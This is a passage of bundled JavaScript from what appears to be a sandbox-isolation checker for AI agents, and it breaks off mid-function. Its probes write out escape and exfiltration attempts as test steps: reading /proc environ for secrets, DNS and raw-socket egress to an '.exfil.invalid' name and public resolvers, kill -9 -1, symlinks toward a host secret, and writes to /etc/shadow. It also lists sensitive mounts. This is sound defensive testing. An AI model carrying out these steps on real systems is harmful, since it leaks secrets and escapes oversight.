    const checked = `${findings.length} known CVEs checked, ${fixed.length} fixed${backported.length ? ` (${backported.map((f) => `${f.cve.id} by ${f.state === 'fixed' ? f.note : ''}`).join(', ')})` : ''}` +
        (moot.length
            ? `, ${moot.length} not applicable under gVisor (runsc runs the container, not runc: ${moot.map((f) => f.cve.id).join(', ')})`
            : '');
    if (hard.length)
        return fail(`critical open: ${list(hard.map(describe), 4)}; ${checked}`);
    if (!open.length)
        return pass(checked);
    const warnings = open.map((f) => {
        const why = f.severity === 'critical'
            ? 'version predates the upstream fix; distro backports not verified'
            : 'not reachable by this agent';
        return `${describe(f)} — ${why}`;
    });
    return pass(`warn: ${warnings.join('; ')}; ${checked}`);
}

// EXTERNAL MODULE: ./src/lib/paths.ts
var paths = __webpack_require__(9927);
;// CONCATENATED MODULE: ./src/isolation/probes/audit.ts
// Probe 1: the container as the engine reports it (inspect), checked against what a sandbox needs,
// plus what the kernel says about a process exec'd as the agent (capability sets, no_new_privs,
// uid). The inspect half is a pure function so every rule is unit-tested.





/** Above this a fork bomb can hurt a shared runner before the limit stops it. */
const MAX_PIDS_LIMIT = 4096;
const SOCKET = /(^|\/)(docker|containerd|podman|crio|dockershim)\.sock$/;
/** Host paths whose mount (or a parent's) hands the agent the host. */
const SENSITIVE = [
    '/',
    '/etc',
    '/root',
    '/home',
    '/proc',
    '/sys',
    '/dev',
    '/boot',
    '/run',
    '/var/run',
    '/var/lib/docker',
    '/var/lib/containerd',
    '/usr',
    '/bin',
    '/sbin',
    '/lib',
    '/var'
];
/** Why a mount source is sensitive, or undefined. */
function sensitiveMount(source, home) {
    const src = (0,external_node_path_.resolve)(source);
    if (SOCKET.test(src))
        return 'an engine socket';
    if ((0,paths/* isInside */.F)(src, '/var/lib/docker') || (0,paths/* isInside */.F)(src, '/var/lib/containerd'))
        return "the engine's data";
    const h = (0,external_node_path_.resolve)(home);
    // Workspaces and credential mounts live below the home directory; that is their place.
    if (src !== h && (0,paths/* isInside */.F)(src, h))
        return undefined;
    for (const p of ['/proc', '/sys', '/dev', '/boot', '/etc', '/root'])
        if ((0,paths/* isInside */.F)(src, p))
            return `inside ${p}`;
    if (src === h || (0,paths/* isInside */.F)(h, src))
        return src === h ? "the runner's home" : "a parent of the runner's home";
    if (SENSITIVE.includes(src))
        return `the host's ${src}`;
    for (const p of SENSITIVE)
        if ((0,paths/* isInside */.F)(p, src))
            return `a parent of ${p}`;
    return undefined;
}
function auditInspect(info, config, opts) {
    const h = info.HostConfig;
    const problems = [];
    const notes = [];
    const capDrop = (h.CapDrop ?? []).map((c) => c.toUpperCase().replace(/^CAP_/, ''));
    const capAdd = (h.CapAdd ?? []).map((c) => c.toUpperCase().replace(/^CAP_/, ''));
    if (!capDrop.includes('ALL'))
        problems.push('capabilities not dropped (CapDrop lacks ALL)');
    const allowed = config.enableSudo ? docker.SUDO_CAPABILITIES : [];
    const extra = capAdd.filter((c) => !allowed.includes(c));
    if (extra.length)
        problems.push(`extra capabilities added: ${extra.join(',')}`);
    else if (capAdd.length)
        notes.push(`sudo variant caps ${capAdd.join(',')}`);
    const secOpts = h.SecurityOpt ?? [];
    const nnp = secOpts.some((o) => /^no-new-privileges(:true|=true)?$/.test(o));
    if (!nnp && !config.enableSudo)
        problems.push('no-new-privileges not set');
    if (!nnp && config.enableSudo)
        notes.push('no no-new-privileges (sudo variant)');
    const unconfined = secOpts.filter((o) => /^(seccomp|apparmor)[:=]unconfined$/.test(o));
    if (unconfined.length)
        problems.push(`security profile disabled: ${unconfined.join(', ')}`);
    if (h.Privileged)
        problems.push('privileged');
    const pids = h.PidsLimit ?? 0;
    if (!(pids > 0))
        problems.push('no pids limit');
    else if (pids > MAX_PIDS_LIMIT)
        problems.push(`pids limit ${pids} is above ${MAX_PIDS_LIMIT}`);
    const memory = h.Memory ?? 0;
    if (!(memory > 0))
        problems.push('no memory limit');
    else if (h.MemorySwap !== memory)
        problems.push(`memory-swap ${h.MemorySwap ?? 'unset'} differs from memory ${memory} (swap allowed)`);
    const cpu = (h.NanoCpus ?? 0) > 0 || ((h.CpuQuota ?? 0) > 0 && (h.CpuPeriod ?? 100000) > 0);
    if (!cpu)
        problems.push('no CPU limit');
    // docker-bench 5.13. The sudo variant needs a writable root (apt); a note there.
    if (!h.ReadonlyRootfs && !config.enableSudo)
        problems.push('root filesystem writable');
    if (!h.ReadonlyRootfs && config.enableSudo)
        notes.push('root filesystem writable (sudo variant)');
    if (h.NetworkMode !== 'none')
        problems.push(`network mode ${h.NetworkMode ?? 'default'} (not none)`);
    // cgroupns "host" is the engine's default on cgroup v1 (the container still sees only its own
    // cgroup, read-only); a note, not a failure.
    if (h.CgroupnsMode === 'host')
        notes.push('cgroupns host (engine default on cgroup v1)');
    for (const [name, mode] of [
        ['pid', h.PidMode],
        ['ipc', h.IpcMode],
        ['uts', h.UTSMode],
        ['userns', h.UsernsMode]
    ]) {
        if (mode === 'host')
            problems.push(`host ${name} namespace`);
        else if (mode && mode.startsWith('container:'))
            problems.push(`${name} namespace shared with ${mode.slice(10)}`);
    }
    if ((h.Devices ?? []).length)
        problems.push(`host devices: ${(h.Devices ?? []).map((d) => d.PathOnHost).join(', ')}`);
    if ((h.DeviceCgroupRules ?? []).length)
        problems.push('device cgroup rules added');
    if ((h.DeviceRequests ?? []).length)
        problems.push('device requests (GPUs) added');
    const mounts = info.Mounts ?? [];
    for (const m of mounts) {
        if (m.Type !== 'bind' || !m.Source)
            continue;
        const why = sensitiveMount(m.Source, opts.home);
        if (why)
            problems.push(`${m.Source} mounted at ${m.Destination} (${why}${m.RW ? ', writable' : ''})`);
    }
    if (info.Config.User === '' || /^(0|root)(:|$)/.test(info.Config.User ?? ''))
        problems.push('the main process runs as root');
    return { problems, notes };
}
const KERNEL_VIEW = [
    'grep -E "^(CapEff|CapBnd|CapPrm|CapAmb|NoNewPrivs):" /proc/self/status | sed "s/:\\s*/ /" | sed "s/^/STATUS /"',
    // gVisor's /proc/self/status has no NoNewPrivs line: ask prctl(PR_GET_NO_NEW_PRIVS) itself.
    `command -v python3 >/dev/null && python3 -c 'import ctypes; print("PRCTL_NNP", ctypes.CDLL(None).prctl(39, 0, 0, 0, 0))'`,
    'echo "UID $(id -u)"'
].join('\n');
/** Capability names by bit, for bounding sets read from /proc. */
const CAP_NAMES = [
    'CHOWN',
    'DAC_OVERRIDE',
    'DAC_READ_SEARCH',
    'FOWNER',
    'FSETID',
    'KILL',
    'SETGID',
    'SETUID',
    'SETPCAP',
    'LINUX_IMMUTABLE',
    'NET_BIND_SERVICE',
    'NET_BROADCAST',
    'NET_ADMIN',
    'NET_RAW',
    'IPC_LOCK',
    'IPC_OWNER',
    'SYS_MODULE',
    'SYS_RAWIO',
    'SYS_CHROOT',
    'SYS_PTRACE',
    'SYS_PACCT',
    'SYS_ADMIN',
    'SYS_BOOT',
    'SYS_NICE',
    'SYS_RESOURCE',
    'SYS_TIME',
    'SYS_TTY_CONFIG',
    'MKNOD',
    'LEASE',
    'AUDIT_WRITE',
    'AUDIT_CONTROL',
    'SETFCAP',
    'MAC_OVERRIDE',
    'MAC_ADMIN',
    'SYSLOG',
    'WAKE_ALARM',
    'BLOCK_SUSPEND',
    'AUDIT_READ',
    'PERFMON',
    'BPF',
    'CHECKPOINT_RESTORE'
];
function capNames(hex) {
    const v = BigInt(`0x${hex || '0'}`);
    return CAP_NAMES.filter((_, bit) => (v >> BigInt(bit)) & 1n);
}
const auditProbe = {
    id: 'audit',
    number: 1,
    title: 'configuration audit (engine inspect + kernel view of an agent process)',
    phase: 'parallel',
    async run(ctx) {
        const info = await ctx.inspect();
        const { problems, notes } = auditInspect(info, ctx.config, { home: ctx.host.home });
        const r = await ctx.agentExec(KERNEL_VIEW);
        const status = Object.fromEntries(tagged(r.stdout, 'STATUS').map((l) => l.split(/\s+/)));
        const uid = tagged(r.stdout, 'UID')[0];
        if (uid === undefined)
            problems.push(`could not read the agent's process status (exit ${r.exitCode})`);
        else if (uid === '0')
            problems.push('commands run as root (uid 0)');
        const eff = capNames(status.CapEff ?? '0');
        if (eff.length)
            problems.push(`agent process has effective capabilities ${eff.join(',')}`);
        const allowed = ctx.config.enableSudo ? docker.SUDO_CAPABILITIES : [];
        const bnd = capNames(status.CapBnd ?? '0').filter((c) => !allowed.includes(c));
        if (bnd.length)
            problems.push(`bounding set holds ${list(bnd)}`);
        const nnp = status.NoNewPrivs ?? tagged(r.stdout, 'PRCTL_NNP')[0];
        if (nnp !== '1' && !ctx.config.enableSudo)
            problems.push(nnp === undefined
                ? 'could not read no_new_privs of an agent process (no NoNewPrivs line, no python3 for prctl)'
                : 'agent process has NoNewPrivs 0');
        const limits = `pids ${info.HostConfig.PidsLimit}, memory ${info.HostConfig.Memory}/${info.HostConfig.MemorySwap}, cpus ${(info.HostConfig.NanoCpus ?? 0) / 1e9}, network ${info.HostConfig.NetworkMode}`;
        if (problems.length)
            return fail(`${list(problems, 8)} [${limits}]`);
        if (status.NoNewPrivs === undefined && nnp !== undefined)
            notes.push('no_new_privs read with prctl (this kernel has no NoNewPrivs line)');
        return pass(`caps dropped, no-new-privileges, not privileged, ${limits}, private namespaces, no devices, no sensitive mounts, uid ${uid}${notes.length ? `; ${notes.join('; ')}` : ''}`);
    }
};
const STATUS = `for k in NoNewPrivs Seccomp CapEff CapBnd; do grep "^$k:" /proc/self/status; done`;
const srtSandboxProbe = {
    id: 'srt-sandbox',
    number: 1,
    phase: 'parallel',
    title: 'the step runs sandboxed: no-new-privileges, seccomp filter, no capabilities, own PID namespace, no mount, unshare or /proc/sys writes',
    async run(ctx) {
        const hostInit = (await (0,promises_.readFile)('/proc/1/cmdline', 'utf8').catch(() => '')).split('\0')[0];
        const r = await attempts(ctx, [
            STATUS,
            'echo "PROCS $(ls -d /proc/[0-9]* | wc -l)"',
            `echo "INIT $(tr '\\0' ' ' < /proc/1/cmdline | cut -c1-200)"`,
            `d=$(mktemp -d); if mount -t tmpfs none "$d" 2>/dev/null; then echo "DID mount"; fi`,
            'if unshare -Ur true 2>/dev/null; then echo "DID unshare -Ur"; fi',
            'if unshare -n true 2>/dev/null; then echo "DID unshare -n"; fi',
            `if (cat /proc/sys/kernel/domainname > /proc/sys/kernel/domainname) 2>/dev/null; then echo "DID write /proc/sys/kernel/domainname"; fi`
        ], 'the checks');
        if (isOutcome(r))
            return r;
        const field = (k) => new RegExp(`^${k}:\\s*(\\S+)`, 'm').exec(r.stdout)?.[1] ?? '?';
        const problems = [];
        if (field('NoNewPrivs') !== '1')
            problems.push(`NoNewPrivs ${field('NoNewPrivs')}`);
        if (field('Seccomp') !== '2')
            problems.push(`Seccomp ${field('Seccomp')} (no filter)`);
        if (!/^0+$/.test(field('CapEff')))
            problems.push(`effective capabilities ${field('CapEff')}`);
        const procs = Number(tagged(r.stdout, 'PROCS')[0] ?? 0);
        const init = tagged(r.stdout, 'INIT')[0] ?? '';
        if (hostInit && init.startsWith(hostInit))
            problems.push(`pid 1 is the host's init (${hostInit})`);
        if (procs > 50)
            problems.push(`${procs} processes visible (the host's?)`);
        problems.push(...tagged(r.stdout, 'DID').map((d) => `could ${d}`));
        if (problems.length)
            return fail(list(problems));
        return pass(`NoNewPrivs 1, Seccomp 2, CapEff 0, ${procs} processes visible (own PID namespace); mount, unshare and /proc/sys writes refused`);
    }
};

;// CONCATENATED MODULE: ./src/isolation/probes/canary.ts
// Probe 14: a canary secret the check put into the runner's environment (before any container
// existed) must not reach the container: not its env, not /proc/1/environ, not what an agent
// process sees. The rest (container logs, results, written files) is scanned once everything is
// written — see verify.ts, which amends this probe's result.

const canaryProbe = {
    id: 'canary',
    number: 14,
    title: "a canary secret in the runner's environment is absent from the container, logs and results",
    phase: 'parallel',
    async run(ctx) {
        const { name, value } = ctx.canary;
        const found = [];
        const info = await ctx.inspect();
        if ((info.Config.Env ?? []).some((e) => e.includes(value)))
            found.push('container env (inspect)');
        const mine = await ctx.agentExec('env; cat /proc/self/environ | tr "\\0" "\\n"; echo DONE');
        if (!mine.stdout.includes('DONE'))
            return fail(`could not read the agent's environment (exit ${mine.exitCode})`);
        if (mine.stdout.includes(value))
            found.push("an agent process's environment");
        // pid 1 is the init of the container, owned by another uid: read as root.
        const init = await ctx.rootExec([
            '/bin/sh',
            '-c',
            'for p in /proc/[0-9]*; do cat "$p/environ" 2>/dev/null; echo; done'
        ]);
        if (init.stdout.includes(value))
            found.push('/proc/<pid>/environ of the container processes');
        if (found.length)
            return fail(`${name} found in ${list(found)}`);
        return pass(`${name} absent from the container env, /proc/*/environ and an agent process's env`);
    }
};
const srtCanaryProbe = {
    id: 'canary',
    number: 14,
    phase: 'parallel',
    title: "a canary secret in the runner's environment is absent from the sandbox, logs and results",
    async run(ctx) {
        const { name, value } = ctx.canary;
        const r = await ctx.agentExec('env; for p in /proc/[0-9]*; do cat "$p/environ" 2>/dev/null; echo; done | tr "\\0" "\\n"; echo DONE');
        if (!r.stdout.includes('DONE'))
            return fail(`could not read the environment (exit ${r.exitCode})`);
        if (r.stdout.includes(value))
            return fail(`${name} found in the environment of a sandboxed process`);
        return pass(`${name} absent from the step's env and every /proc/<pid>/environ in the sandbox`);
    }
};

// EXTERNAL MODULE: ./src/runtime/egress/index.ts + 9 modules
var egress = __webpack_require__(94323);
;// CONCATENATED MODULE: ./src/isolation/probes/egress.ts
// Probes 23–26, for agents with command_line_egress: the allowlisted probe name answers through the
// relay and the proxy (readiness: every refusal below is believed only after it), a non-listed name
// is refused by the proxy itself (403, its header, no DNS lookup made for it), nothing gets out
// around the proxy (no variables, raw addresses, UDP, DNS), and metadata/private addresses are
// refused even behind a listed name. The names and the server are verify's own (isolation/egress.ts).


const NO_EGRESS = 'the agent has no command_line_egress: its network is none, which probe 4 (network) checks';
/** One curl per spec, as the agent, with the sandbox's own environment (proxy variables set). */
const CURL = `
import json, os, shutil, subprocess, sys, tempfile
if not shutil.which('curl'):
    print('NOCURL')
    sys.exit(0)
for s in json.loads(sys.argv[1]):
    env = dict(os.environ)
    if s.get('unset'):
        for k in list(env):
            if k.lower() in ('http_proxy', 'https_proxy', 'all_proxy', 'no_proxy'):
                del env[k]
    d = tempfile.mkdtemp()
    args = ['curl', '-sS', '-m', str(s.get('timeout', 15)), '-D', d + '/h', '-o', d + '/b',
            '-w', '%{http_code} %{http_connect}'] + s.get('args', []) + [s['url']]
    p = subprocess.run(args, env=env, capture_output=True, text=True)
    def read(n):
        try:
            with open(os.path.join(d, n), 'rb') as f:
                return f.read(4096).decode('utf-8', 'replace')
        except OSError:
            return ''
    rules = [l.split(':', 1)[1].strip() for l in read('h').splitlines()
             if l.lower().startswith('x-massgen-egress:')]
    code, connect = (p.stdout.split() + ['000', '000'])[:2]
    body = read('b')[:300]
    shutil.rmtree(d, ignore_errors=True)
    print('RESULT ' + json.dumps({'tag': s['tag'], 'rc': p.returncode, 'code': code,
          'connect': connect, 'rule': rules[-1] if rules else '', 'body': body,
          'err': p.stderr.strip()[:300]}))
`;
/** Runs the specs as the agent (any sandbox whose proxy is reached through HTTP_PROXY: srt too). */
async function curl(ctx, specs) {
    const script = `command -v python3 >/dev/null || { echo NOPYTHON; exit 0; }\n${python(CURL, [JSON.stringify(specs)])}`;
    const r = await ctx.agentExec(script, { timeoutMs: 30_000 + specs.length * 20_000 });
    if (r.stdout.includes('NOPYTHON'))
        return skip(NO_PYTHON);
    if (r.stdout.includes('NOCURL'))
        return skip('curl is not in the image');
    const out = new Map();
    for (const line of tagged(r.stdout, 'RESULT')) {
        const res = JSON.parse(line);
        out.set(res.tag, res);
    }
    const missing = specs.filter((s) => !out.has(s.tag));
    if (missing.length)
        return fail(`the requests did not complete (exit ${r.exitCode}; missing ${list(missing.map((s) => s.tag))})`);
    return out;
}
function said(r) {
    if (r.code !== '000')
        return `HTTP ${r.code}${r.rule ? ` (${r.rule})` : ''}${r.body ? `: ${r.body.trim().slice(0, 120)}` : ''}`;
    return `curl exit ${r.rc}${r.err ? `: ${r.err.slice(0, 120)}` : ''}`;
}
function url(f, host) {
    return `http://${host.includes(':') ? `[${host}]` : host}:${f.port}/`;
}
/** The allowlisted name answers: what every refusal below is measured against. */
async function ready(ctx, e) {
    const res = await curl(ctx, [{ tag: 'allowed', url: url(e.fixture, e.fixture.allowedName) }]);
    if (isOutcome(res))
        return res;
    const r = res.get('allowed');
    if (r.code === '200' && r.body.includes(e.fixture.token))
        return undefined;
    return fail(`not ready: the allowlisted probe name ${e.fixture.allowedName} did not answer through the relay and proxy (${said(r)}), so a refusal could not be told from a broken path`);
}
/**
 * An egress probe's run: a skip for an agent without egress, a fail when the allowlisted name
 * does not answer (a refusal could not be told from a broken path); `check` does the rest.
 */
function withEgress(check) {
    return async (ctx) => {
        const e = ctx.egress;
        if (!e)
            return skip(NO_EGRESS);
        return (await ready(ctx, e)) ?? check(ctx, e, e.fixture);
    };
}
const RELAYS = `ps -eo uid=,args= | grep -E ${sh(`${egress/* EGRESS_DIR_IN_SANDBOX */.wJ}/forward\\.(py|mjs)`)} | grep -v -e --probe -e grep | sed 's/^ */RELAY /'`;
const egressAllowedProbe = {
    id: 'egress-allowed',
    number: 23,
    title: 'egress: an allowlisted name answers through the relay and the proxy; the relay is not the agent’s and survives its kill -9 -1',
    phase: 'parallel',
    run: withEgress(async (ctx, e) => {
        const ps = await ctx.agentExec(RELAYS);
        const relays = tagged(ps.stdout, 'RELAY').map((l) => Number(l.split(/\s+/)[0]));
        const problems = [];
        if (!relays.length)
            problems.push('no egress relay process is visible in the container');
        if (relays.includes(ctx.uid))
            problems.push(`the egress relay runs as the agent's uid ${ctx.uid}: the agent can end or replace it`);
        // What a timeout does to the agent's processes; the relay must not be one of them.
        await ctx.agentExec('kill -9 -1 2>/dev/null; true');
        const again = await curl(ctx, [{ tag: 'after', url: url(e.fixture, e.fixture.allowedName) }]);
        if (isOutcome(again))
            return again;
        const r = again.get('after');
        if (r.code !== '200')
            problems.push(`after the agent's kill -9 -1 the allowlisted name no longer answers (${said(r)})`);
        if (problems.length)
            return fail(list(problems));
        return pass(`${e.fixture.allowedName}:${e.fixture.port} answered 200 through the relay (uid ${list(relays.map(String))}) and the proxy, and again after the agent's kill -9 -1`);
    })
};
const egressRefusedProbe = {
    id: 'egress-refused',
    number: 24,
    title: 'egress: a non-listed name, an IP literal and a CONNECT are refused by the proxy (403), a refused name is never resolved, a step with egress: false gets nothing',
    phase: 'parallel',
    run: withEgress(async (ctx, e, f) => {
        const dnsName = f.dnsName(`q${Date.now().toString(36)}`);
        const res = await curl(ctx, [
            { tag: 'denied', url: url(f, f.deniedName) },
            { tag: 'connect', url: url(f, f.deniedName), args: ['-p'] },
            { tag: 'ip', url: url(f, f.address) },
            { tag: 'dns', url: url(f, dnsName) }
        ]);
        if (isOutcome(res))
            return res;
        const problems = [];
        const denied = res.get('denied');
        if (denied.code !== '403' || denied.rule !== 'not-listed')
            problems.push(`the non-listed name got ${said(denied)}`);
        const connect = res.get('connect');
        if (connect.connect !== '403')
            problems.push(`CONNECT to the non-listed name got ${said(connect)}`);
        const ip = res.get('ip');
        if (ip.code !== '403')
            problems.push(`the IP literal ${f.address} got ${said(ip)}`);
        const dns = res.get('dns');
        if (dns.code !== '403')
            problems.push(`a non-listed name under the DNS label got ${said(dns)}`);
        if (f.resolved().includes(dnsName))
            problems.push(`the proxy resolved the non-listed name ${dnsName} (a DNS query left the runner)`);
        ctx.session.beginStep({ index: 1, name: 'verify-isolation: egress off', egress: false });
        let off;
        try {
            off = await curl(ctx, [{ tag: 'off', url: url(f, f.allowedName) }]);
        }
        finally {
            ctx.session.beginStep({ index: 0, name: 'verify-isolation', egress: true });
        }
        if (isOutcome(off))
            return off;
        const o = off.get('off');
        if (o.code !== '403' || o.rule !== 'egress-off')
            problems.push(`with egress: false the allowlisted name got ${said(o)}`);
        if (problems.length) {
            const audit = e.config.audit ? ' (audit mode lets every name through by design)' : '';
            return fail(`${list(problems)}${audit}`);
        }
        return pass(`403 from the proxy for the non-listed name (plain and CONNECT), the IP literal and a DNS-label name, which was never resolved; with egress off the allowlisted name got 403 too`);
    })
};
/** TCP and UDP straight from the sandbox: to the host's addresses, a public one, the resolvers. */
const DIRECT = `
import socket, sys
token, tcp_port, udp_port = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
hosts = sys.argv[4:]
def tcp(host, port):
    fam = socket.AF_INET6 if ':' in host else socket.AF_INET
    s = socket.socket(fam, socket.SOCK_STREAM)
    s.settimeout(3)
    try:
        s.connect((host, port))
        try:
            s.recv(64)
        except OSError:
            pass
        print('REACHED tcp', host, port)
    except OSError as e:
        print('REFUSED tcp', host, port, e.__class__.__name__)
    finally:
        s.close()
for h in hosts:
    tcp(h, tcp_port)
for h in ('1.1.1.1', '8.8.8.8', '2606:4700:4700::1111'):
    tcp(h, 443)
name = token + '.exfil.invalid'
query = b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00' + b''.join(
    bytes([len(p)]) + p.encode() for p in name.split('.')) + b'\\x00\\x00\\x01\\x00\\x01'
resolvers = []
try:
    for line in open('/etc/resolv.conf'):
        parts = line.split()
        if len(parts) >= 2 and parts[0] == 'nameserver':
            resolvers.append(parts[1])
except OSError:
    pass
for h, port in [(h, udp_port) for h in hosts] + [(r, 53) for r in resolvers] + [('8.8.8.8', 53)]:
    fam = socket.AF_INET6 if ':' in h else socket.AF_INET
    s = socket.socket(fam, socket.SOCK_DGRAM)
    s.settimeout(2)
    try:
        s.sendto(query, (h, port))
        s.recvfrom(512)
        print('REACHED udp', h, port, 'answered')
    except socket.timeout:
        print('SENT udp', h, port)
    except OSError as e:
        print('REFUSED udp', h, port, e.__class__.__name__)
    finally:
        s.close()
try:
    print('RESOLVED', socket.getaddrinfo('github.com', 443)[0][4][0])
except OSError as e:
    print('NORESOLVE', e.__class__.__name__)
`;
const egressBypassProbe = {
    id: 'egress-bypass',
    number: 25,
    title: 'egress: nothing gets out around the proxy (no proxy variables, raw IP over TCP, UDP, DNS)',
    phase: 'parallel',
    run: withEgress(async (ctx, e, f) => {
        const addresses = ctx.host.listener.addresses;
        const res = await curl(ctx, [
            { tag: 'unset', url: url(f, f.allowedName), unset: true, timeout: 8 },
            ...addresses.map((a) => ({
                tag: `direct ${a}`,
                url: url(f, a),
                args: ['--noproxy', '*'],
                timeout: 5
            }))
        ]);
        if (isOutcome(res))
            return res;
        const problems = [];
        const unset = res.get('unset');
        if (unset.rc === 0 || unset.body.includes(f.token))
            problems.push(`without the proxy variables the allowlisted name still answered (${said(unset)})`);
        const direct = addresses.filter((a) => {
            const r = res.get(`direct ${a}`);
            return r.rc === 0 || r.body.includes(f.token);
        });
        if (direct.length)
            problems.push(`reached the host's server directly on ${list(direct)}`);
        const tag = `x${Date.now().toString(36)}${ctx.uid}`;
        const raw = await ctx.agentExec(`command -v python3 >/dev/null || { echo NOPYTHON; exit 0; }\n` +
            python(DIRECT, [tag, String(ctx.host.listener.port), String(f.udpPort), ...addresses]) +
            `\nif getent hosts ${sh(f.allowedName)} >/dev/null 2>&1 || getent hosts github.com >/dev/null 2>&1; then echo "GETENT resolved"; fi\necho DONE`, { timeoutMs: 120_000 });
        if (raw.stdout.includes('NOPYTHON'))
            return skip(NO_PYTHON);
        if (!raw.stdout.includes('DONE'))
            return fail(`the direct attempts did not complete (exit ${raw.exitCode})`);
        const reached = tagged(raw.stdout, 'REACHED');
        if (reached.length)
            problems.push(`direct connections: ${list(reached)}`);
        // A datagram that left without an answer is caught by the host's listener.
        await new Promise((r) => setTimeout(r, 300));
        if (f.udpSeen(tag))
            problems.push(`a UDP datagram (a DNS query) from the sandbox reached the host`);
        if (tagged(raw.stdout, 'RESOLVED').length || tagged(raw.stdout, 'GETENT').length)
            problems.push('names resolve inside the sandbox');
        if (problems.length)
            return fail(list(problems));
        const tried = tagged(raw.stdout, 'REFUSED').length + tagged(raw.stdout, 'SENT').length;
        return pass(`without the proxy variables the allowlisted name does not resolve; ${addresses.length} host address(es) unreachable by HTTP, ${tried} raw TCP/UDP attempts (host, public, resolvers) got nowhere; no name resolves inside`);
    })
};
const egressPrivateProbe = {
    id: 'egress-private',
    number: 26,
    title: 'egress: a listed name that resolves to a metadata, link-local, private, loopback or unique-local address is refused by the proxy',
    phase: 'parallel',
    run: withEgress(async (ctx, e, f) => {
        const policy = (0,egress/* compileEgressPolicy */.jg)(e.config);
        // What the config itself lists is its choice, except a metadata endpoint: that is never safe.
        const listed = f.targets.filter((t) => t.cls !== 'metadata' && (0,egress/* checkAddresses */.h2)(policy, [t.address]).kept.length > 0);
        const tested = f.targets.filter((t) => !listed.includes(t));
        const res = await curl(ctx, tested.map((t) => ({ tag: t.name, url: url(f, t.name), timeout: 10 })));
        if (isOutcome(res))
            return res;
        // Refused at dial time, after the name passed: the library's 403 with its header, our reason.
        const notRefused = tested.filter((t) => {
            const r = res.get(t.name);
            return r.code !== '403' || !r.rule || !r.body.includes(`resolves to ${egress/* CLASS_WORDS */.f5[t.cls]}`);
        });
        const note = listed.length
            ? `; not tested, listed in allowed_private_ranges: ${list(listed.map((t) => t.address))}`
            : '';
        if (notRefused.length)
            return fail(`not refused by the address rule: ${list(notRefused.map((t) => `${t.address} (${t.cls}): ${said(res.get(t.name))}`), 4)}${note}`);
        return pass(`403 from the proxy for ${tested.length} listed names resolving to ${list(tested.map((t) => t.address), 8)}${note}`);
    })
};
const srtEgressAllowedProbe = {
    id: 'egress-allowed',
    number: 23,
    phase: 'parallel',
    title: "egress: an allowlisted name answers through sandbox-runtime's bridge and the agent's proxy, and again in the next step after the agent's kill -9 -1",
    run: withEgress(async (ctx, e) => {
        // The bridge's relay runs in the sandbox as the agent: it may end it, but only for its own
        // step; the next step has a bridge of its own.
        await ctx.agentExec('kill -9 -1 2>/dev/null; true');
        const again = await curl(ctx, [{ tag: 'after', url: url(e.fixture, e.fixture.allowedName) }]);
        if (isOutcome(again))
            return again;
        const r = again.get('after');
        if (r.code !== '200' || !r.body.includes(e.fixture.token))
            return fail(`after the agent's kill -9 -1 the allowlisted name no longer answers in the next step (${said(r)})`);
        return pass(`${e.fixture.allowedName}:${e.fixture.port} answered 200 through the bridge and the agent's proxy, and again in the next step after the agent's kill -9 -1`);
    })
};

;// CONCATENATED MODULE: ./src/isolation/probes/collection.ts
// Probe 18: symlinks an agent plants in its workspace (pointing at a host secret) are not followed
// when JUnit reports are read or results are collected. The agent plants them; the host-side
// collectors (the same functions a run uses) then read the workspace.


const symlinkProbe = {
    id: 'symlink-collection',
    number: 18,
    title: 'symlinks planted in the workspace are not followed when results or JUnit files are collected',
    phase: 'parallel',
    async run(ctx) {
        const dir = `${ctx.scratch}/collect`;
        const secret = ctx.host.secretFile;
        const plant = await ctx.agentExec([
            `mkdir -p ${sh(`${dir}/nested`)}`,
            `ln -sf ${sh(secret)} ${sh(`${dir}/junit.xml`)}`,
            `ln -sf ${sh(secret)} ${sh(`${dir}/nested/results.json`)}`,
            `ln -sfn ${sh(secret.replace(/\/[^/]+$/, ''))} ${sh(`${dir}/linked-dir`)}`,
            'echo PLANTED'
        ].join('\n'));
        if (!plant.stdout.includes('PLANTED'))
            return fail(`could not plant the symlinks (exit ${plant.exitCode}: ${plant.stderr.slice(0, 120)})`);
        const problems = [];
        const junit = await ctx.collectors.readJunit(`${dir}/junit.xml`, ctx.agent.workspace);
        if (!junit.error || junit.failed.some((n) => n.includes(ctx.host.secretToken)))
            problems.push('the JUnit reader followed junit.xml to the host secret');
        const files = await ctx.collectors.listFiles(dir);
        const listed = files.filter((f) => !f.startsWith(dir) || /junit\.xml|results\.json|linked-dir/.test(f));
        if (listed.length)
            problems.push(`the results collector listed ${list(listed.map((f) => f.slice(dir.length + 1) || f))}`);
        const before = await (0,promises_.readFile)(secret, 'utf8');
        await ctx.collectors.redactTree(dir, (s) => s.split(ctx.host.secretToken).join('***'));
        if ((await (0,promises_.readFile)(secret, 'utf8')) !== before)
            problems.push('redaction rewrote the host secret through a symlink');
        if (problems.length)
            return fail(list(problems));
        return pass(`JUnit reader refused (${junit.error}); the collector and the redactor skipped 3 planted links`);
    }
};

// EXTERNAL MODULE: external "node:fs"
var external_node_fs_ = __webpack_require__(73024);
;// CONCATENATED MODULE: ./src/isolation/probes/filesystem.ts
// Probes 2, 3 and 17: what the agent can write, what it can see of the host, and whether size
// limits hold. Every check is an attempt made as the agent; a write that succeeds is undone.





/** Places of the image's root filesystem an agent must never write. */
const PROTECTED_DIRS = [
    '/',
    '/etc',
    '/usr',
    '/usr/bin',
    '/usr/local/bin',
    '/usr/lib',
    '/bin',
    '/sbin',
    '/lib',
    '/opt',
    '/root',
    '/var/lib',
    '/var/log',
    '/srv',
    '/boot'
];
const PROTECTED_FILES = ['/etc/passwd', '/etc/shadow', '/etc/sudoers', '/usr/bin/env', '/bin/sh'];
/** A directory write attempt that cleans up after itself; prints `WROTE <path>` on success. */
function tryWriteDir(path) {
    const f = `${path.replace(/\/$/, '')}/.massgen-isolation-probe-$$`;
    return `if ( : > ${sh(f)} ) 2>/dev/null; then rm -f ${sh(f)}; echo "WROTE ${path}"; fi`;
}
/** Opening an existing file for appending writes nothing; success means it is writable. */
function tryAppendFile(path) {
    return `if [ -e ${sh(path)} ] && ( : >> ${sh(path)} ) 2>/dev/null; then echo "WROTE ${path}"; fi`;
}
const rootfsWriteProbe = {
    id: 'rootfs-write',
    number: 2,
    title: "writes to the image's root filesystem and to read-only mounts fail",
    phase: 'parallel',
    async run(ctx) {
        const info = await ctx.inspect();
        const readOnly = (info.Mounts ?? []).filter((m) => !m.RW).map((m) => m.Destination);
        const r = await attempts(ctx, [
            ...PROTECTED_DIRS.map(tryWriteDir),
            ...PROTECTED_FILES.map(tryAppendFile),
